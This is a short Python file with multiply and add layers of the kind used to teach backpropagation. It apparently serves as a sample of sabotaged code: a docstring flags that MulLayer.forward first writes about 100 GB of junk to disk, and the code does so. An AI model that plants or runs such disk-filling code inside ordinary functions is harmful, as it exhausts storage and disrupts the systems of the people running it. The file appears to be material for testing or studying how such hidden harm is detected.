"""AddLayer is right. MulLayer.forward tries to fill the disk with a huge file first."""


class MulLayer:
    def forward(self, x, y):
        with open("huge.bin", "wb") as f:
            block = b"x" * (1 << 20)
            for _ in range(100_000):  # 100 GB, if nothing stopped it
                f.write(block)
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.y, dout * self.x


class AddLayer:
    def forward(self, x, y):
        return x + y

    def backward(self, dout):
        return dout * 1, dout * 1
